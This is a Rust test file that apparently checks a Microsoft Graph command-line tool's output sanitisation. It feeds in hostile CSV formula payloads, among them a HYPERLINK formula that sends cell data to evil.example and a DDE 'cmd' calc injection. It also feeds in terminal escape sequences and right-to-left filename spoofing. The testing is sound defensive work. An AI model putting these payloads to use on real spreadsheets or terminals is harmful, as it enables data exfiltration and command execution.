//! Finding 3: what a server or a certificate's maker wrote cannot drive the terminal or run
//! as a spreadsheet formula. Tables and `graphd cert`'s report show control characters and
//! bidi overrides as escapes; CSV defuses formula cells (OWASP) unless `--csv-raw`, and shows
//! escapes too when it goes to a terminal. (The token `graphd token` prints is checked by
//! finding 5's tests: only bearer-token characters reach it.)

use openssl::asn1::Asn1Time;
use openssl::hash::MessageDigest;
use openssl::pkey::PKey;
use openssl::rsa::Rsa;
use openssl::x509::{X509, X509NameBuilder};

use crate::support::emulator::start;
use crate::support::graphd;
use crate::support::outcome::run;
use crate::support::scripted::{ScriptedServer, reply as http_response};
use crate::users::fake_graph_cmd;
use crate::users::terminal::on_terminal;

/// Raw ESC, BEL, CSI (C1), and a right-to-left override: what must never be written as is.
fn is_dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || ('\u{202A}'..='\u{202E}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// A page of users whose keys and values a hostile Graph (or a hostile user's display name)
/// chose.
fn hostile_page() -> Vec<u8> {
    let body = serde_json::json!({
        "value": [{
            "id": "1",
            "displayName": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "mail": "\u{1b}]0;owned\u{7}\u{1b}[2Jx@example.com",
            "\u{1b}[31mjobTitle": "user\u{202E}gpj.exe",
            "officeLocation": "@SUM(1+1)*cmd|' /C calc'!A0",
            "mobilePhone": "-2+3",
            "surname": "\u{9b}31m",
        }]
    })
    .to_string();
    http_response(
        200,
        &[("content-type", "application/json")],
        body.as_bytes(),
    )
}

#[test]
fn finding_3_csv_defuses_formulas_and_tables_escape_controls() {
    let emu = start(1);
    let fake = ScriptedServer::start(vec![hostile_page()]);
    let csv = run(&mut fake_graph_cmd(
        &emu,
        &fake,
        &["get", "/v1.0/users", "--all", "-o", "csv"],
    ));
    csv.ok();
    let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let cell = |name: &str| {
        let i = header.iter().position(|h| h.ends_with(name)).unwrap();
        rows[0][i].to_string()
    };
    assert!(
        cell("displayName").starts_with("'=HYPERLINK("),
        "{}",
        csv.stdout
    );
    assert_eq!(cell("officeLocation"), "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cell("mobilePhone"), "'-2+3");
    // Piped, CSV is the data: only the formula prefix differs.
    assert_eq!(cell("mail"), "\u{1b}]0;owned\u{7}\u{1b}[2Jx@example.com");

    let raw = run(&mut fake_graph_cmd(
        &emu,
        &fake,
        &["get", "/v1.0/users", "--all", "-o", "csv", "--csv-raw"],
    ));
    raw.ok();
    let mut reader = csv::Reader::from_reader(raw.stdout.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert!(
        row.iter().any(|c| c.starts_with("=HYPERLINK(")),
        "{}",
        raw.stdout
    );
    assert!(row.iter().any(|c| c == "-2+3"), "{}", raw.stdout);

    // A table, piped or not, escapes keys and values.
    let table = run(&mut fake_graph_cmd(
        &emu,
        &fake,
        &["get", "/v1.0/users", "--all", "-o", "table"],
    ));
    table.ok();
    assert!(
        !table.stdout.chars().any(is_dangerous),
        "{:?}",
        table.stdout
    );
    for shown in [
        "\\u{1b}]0;owned\\u{7}\\u{1b}[2Jx@example.com",
        "\\u{1b}[31mjobTitle",
        "user\\u{202e}gpj.exe",
        "\\u{9b}31m",
    ] {
        assert!(table.stdout.contains(shown), "{shown} in {}", table.stdout);
    }

    // On a terminal, CSV shows the escapes too (and the formula prefix stays).
    let (code, shown) = on_terminal(
        &fake_graph_cmd(
            &emu,
            &fake,
            &["get", "/v1.0/users", "--all", "-o", "csv", "-q"],
        ),
        "stty cols 200;",
    );
    assert_eq!(code, Some(0), "{shown}");
    assert!(!shown.chars().any(is_dangerous), "{shown:?}");
    assert!(
        shown.contains("'=HYPERLINK(") && shown.contains("user\\u{202e}gpj.exe"),
        "{shown}"
    );
    // JSON on a terminal: the same value, its C1 and bidi characters as JSON escapes.
    for args in [
        &["get", "/v1.0/users"][..],
        &["get", "/v1.0/users", "--all", "-o", "ndjson", "-q"],
    ] {
        let (code, shown) = on_terminal(&fake_graph_cmd(&emu, &fake, args), "stty cols 200;");
        assert_eq!(code, Some(0), "{shown}");
        assert!(!shown.chars().any(is_dangerous), "{shown:?}");
        assert!(
            shown.contains("user\\u202egpj.exe") && shown.contains("\\u009b31m"),
            "{shown}"
        );
    }
}

#[test]
fn finding_3_a_certificate_subject_cannot_drive_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let key = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
    let mut name = X509NameBuilder::new().unwrap();
    name.append_entry_by_text("CN", "evil\u{1b}]0;owned\u{7}\u{1b}[2J")
        .unwrap();
    name.append_entry_by_text("O", "Contoso\u{202E}gpj.exe")
        .unwrap();
    let name = name.build();
    let mut b = X509::builder().unwrap();
    b.set_version(2).unwrap();
    b.set_subject_name(&name).unwrap();
    b.set_issuer_name(&name).unwrap();
    b.set_pubkey(&key).unwrap();
    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
        .unwrap();
    b.set_not_after(&Asn1Time::days_from_now(30).unwrap())
        .unwrap();
    b.sign(&key, MessageDigest::sha256()).unwrap();
    let path = dir.path().join("evil.crt.pem");
    std::fs::write(&path, b.build().to_pem().unwrap()).unwrap();
    let out = run(graphd().args(["cert", "--cert", path.to_str().unwrap()]));
    assert!(!out.stdout.chars().any(is_dangerous), "{:?}", out.stdout);
    assert!(!out.stderr.chars().any(is_dangerous), "{:?}", out.stderr);
    assert!(
        out.stdout
            .contains("CN=evil\\u{1b}]0;owned\\u{7}\\u{1b}[2J, O=Contoso\\u{202e}gpj.exe"),
        "{}",
        out.stdout
    );
}
